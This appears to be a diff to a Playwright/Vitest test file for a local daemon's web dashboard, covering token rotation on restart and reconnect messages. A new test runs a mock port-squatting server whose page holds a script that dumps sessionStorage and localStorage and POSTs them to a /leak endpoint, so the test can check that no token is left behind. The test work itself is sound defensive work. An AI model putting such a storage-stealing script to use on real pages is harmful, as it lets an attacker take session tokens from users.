@@ -8,16 +8,16 @@
  * - "holds N sessions, memory entries, skills" follows session.created, memory.changed and
  *   skills.changed, and "last write … ago" is redrawn with the clock;
  * - the daemon going away: after failed reconnects the page says it is stopped or on another port
- *   and that `mesh dashboard` opens it again; it comes back live when the daemon does; a daemon
- *   back with another token (HTTP 401 before the WebSocket upgrade, which the browser only sees
- *   as 1006) sends the page to the login hint, saying so;
+ *   and that `mesh dashboard` opens it again; the daemon back (with a new token, as at every start)
+ *   sends the page to the login hint, saying so;
  * - a server that took the port of a daemon that stopped gets no token from the page, not even by
  *   relaying the proof the page asks for (/api/proof) from the daemon started on another port: the
- *   page forgets the token and says why.
+ *   page forgets the token and says why;
+ * - a tab reloaded after the daemon stopped loads the page of whoever serves the address then, in
+ *   the same origin: it finds no token in the browser's storage (the page kept it in memory only),
+ *   and the token it had opens nothing on the daemon started again (a new token at every start).
  */
-import { rm } from 'node:fs/promises'
 import { createServer } from 'node:http'
-import { join } from 'node:path'
 import type { Browser, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { browserPair, type BrowserPair } from '../helpers/chromium.js'
@@ -152,7 +152,7 @@ describe('the dashboard over a long visit, in headless chromium', () => {
     expect(errors).toEqual([])
   })
 
-  it('says the daemon is gone after failed reconnects, comes back live with it, and sends a refused token to the login hint', async () => {
+  it('says the daemon is gone after failed reconnects, and sends the page to the login hint when it is back with its new token', async () => {
     const { a, wallet, env } = pair as Pair
     const again = async (): Promise<Daemon> => {
       const d = await startDaemon(env, { home: a.home, wallet, label: 'alpha', http: String(a.port) })
@@ -165,14 +165,8 @@ describe('the dashboard over a long visit, in headless chromium', () => {
     await conn.filter({ hasText: /^The daemon does not answer at 127\.0\.0\.1:\d+: mesh join has stopped, or serves on another port now\. .*mesh dashboard opens this page at its address/ }).waitFor({ timeout: 30_000 })
     expect(await page.locator('#app').isVisible()).toBe(true)
 
-    // Back, with the same token: live again, nothing to do.
-    const d = await again()
-    await conn.filter({ hasText: /^live$/ }).waitFor({ timeout: 30_000 })
-
-    // Back with another token: the stream's upgrade gets 401, which the page finds out and says.
-    await d.proc.stop('SIGKILL')
-    await conn.filter({ hasText: /^reconnecting…/ }).waitFor()
-    await rm(join(a.home, 'api.token'))
+    // Back, at the same address, with a new token (every start makes one): the page finds out
+    // before sending its own (the proof) and says so.
     const other = await again()
     expect(other.token).not.toBe(a.token)
     await page.locator('#login').waitFor({ state: 'visible', timeout: 30_000 })
@@ -194,7 +188,7 @@ describe('the dashboard over a long visit, in headless chromium', () => {
     const elsewhere = await startDaemon(env, { home: a.home, wallet, label: 'alpha', http: '0' })
     restarted.push(elsewhere)
     expect(elsewhere.port).not.toBe(d.port)
-    expect(elsewhere.token).toBe(d.token)
+    expect(elsewhere.token).not.toBe(d.token)
     const seen: string[] = []
     const squatter = createServer((req, res) => {
       seen.push(`${req.method ?? ''} ${req.url ?? ''} ${JSON.stringify(req.headers)}`)
@@ -221,6 +215,54 @@ describe('the dashboard over a long visit, in headless chromium', () => {
     } finally {
       await new Promise<void>(resolve => { squatter.close(() => { resolve() }); squatter.closeAllConnections() })
       await elsewhere.proc.stop('SIGKILL')
+    }
+  })
+
+  it('leaves no token for the page that serves its address after the daemon stopped, when the tab is reloaded; and the old token opens nothing on the next daemon', async () => {
+    const { a, wallet, env } = pair as Pair
+    await a.proc.stop('SIGKILL') // stopped by the tests above already, unless run alone
+    const d = await startDaemon(env, { home: a.home, wallet, label: 'alpha', http: String(a.port) })
+    restarted.push(d)
+    const errs: string[] = []
+    const tab = await open(d, errs)
+    await d.proc.stop('SIGKILL')
+    // Another local user's server on the port: its page, in the same origin, reads the tab's storage.
+    const seen: string[] = []
+    let leak: (body: string) => void = () => {}
+    const leaked = new Promise<string>(resolve => { leak = resolve })
+    const squatter = createServer((req, res) => {
+      seen.push(`${req.method ?? ''} ${req.url ?? ''} ${JSON.stringify(req.headers)}`)
+      const url = new URL(req.url ?? '/', 'http://x')
+      // The proof is never answered: the old page cannot find out and forget before the reload.
+      if (url.pathname.startsWith('/api/')) return
+      if (url.pathname === '/leak') {
+        let body = ''
+        req.on('data', (c: Buffer) => { body += c.toString() })
+        req.on('end', () => { leak(body); res.end() })
+        return
+      }
+      res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><script>' +
+        'const all = (s) => Object.fromEntries(Array.from({ length: s.length }, (_, i) => [s.key(i), s.getItem(s.key(i))]));' +
+        "fetch('/leak', { method: 'POST', body: JSON.stringify({ session: all(sessionStorage), local: all(localStorage) }) })" +
+        '</script>')
+    })
+    squatter.on('upgrade', (req, socket) => { seen.push(`UPGRADE ${req.url ?? ''} ${JSON.stringify(req.headers)}`); socket.destroy() })
+    await new Promise<void>((resolve, reject) => { squatter.once('error', reject); squatter.listen(d.port, '127.0.0.1', resolve) })
+    try {
+      await tab.reload()
+      const storage = JSON.parse(await leaked) as { session: Record<string, string>, local: Record<string, string> }
+      expect(storage).toEqual({ session: {}, local: {} })
+      expect(seen.filter(r => r.includes(d.token))).toEqual([])
+      // The daemon started again has a new token: the one the tab had opens nothing there.
+      const next = await startDaemon(env, { home: a.home, wallet, label: 'alpha', http: '0' })
+      restarted.push(next)
+      expect(next.token).not.toBe(d.token)
+      expect((await api(next, 'GET', '/api/status', undefined, d.token)).status).toBe(401)
+      expect((await api(next, 'GET', '/api/status')).status).toBe(200)
+      await next.proc.stop('SIGKILL')
+      expect(errs).toEqual([])
+    } finally {
+      await new Promise<void>(resolve => { squatter.close(() => { resolve() }); squatter.closeAllConnections() })
     }
   })
 })
